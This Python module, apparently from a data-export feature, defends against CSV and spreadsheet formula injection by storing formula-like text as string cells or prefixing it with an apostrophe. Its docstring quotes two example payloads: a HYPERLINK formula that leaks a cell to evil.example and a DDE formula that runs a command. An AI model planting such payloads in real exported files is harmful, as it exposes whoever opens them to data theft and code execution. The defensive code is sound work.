"""User text in the files we export is text, never a formula (the same rule for .xlsx, CSV and the reports to come).

A focal point can type `=HYPERLINK("http://evil.example/?leak="&A1,"Click me")` as a task's partners, or
`=cmd|' /C calc'!A0` as its output; whoever opens the exported file must see those characters, not run them.
What spreadsheet programs read as a formula is a cell beginning with one of FORMULA_STARTS (OWASP, "CSV
Injection").

- .xlsx: a text value goes in as a string cell (`t="inlineStr"`), which no program evaluates, and a
  formula-like one also gets Excel's quote prefix (the hidden `'` that keeps it text when someone edits the
  cell). The text is kept exactly, so importing the file gives back what was exported.
- CSV has no cell types: a formula-like text gets a leading `'` (OWASP's advice), which spreadsheet programs
  show and do not evaluate. The CSV is for reading, not for importing back.

Numbers (negative points too) stay numbers: only text is neutralised.
"""

from __future__ import annotations

from openpyxl.cell.cell import Cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def put(cell: Cell, value: object) -> None:
    """Set a worksheet cell: numbers, dates and None as they are, text always as a string cell."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl makes any text beginning with "=" a formula: undo that
        if looks_like_formula(value):
            cell.quotePrefix = True


def csv_text(value: str) -> str:
    """A CSV field: formula-like text gets a leading apostrophe."""
    return "'" + value if looks_like_formula(value) else value
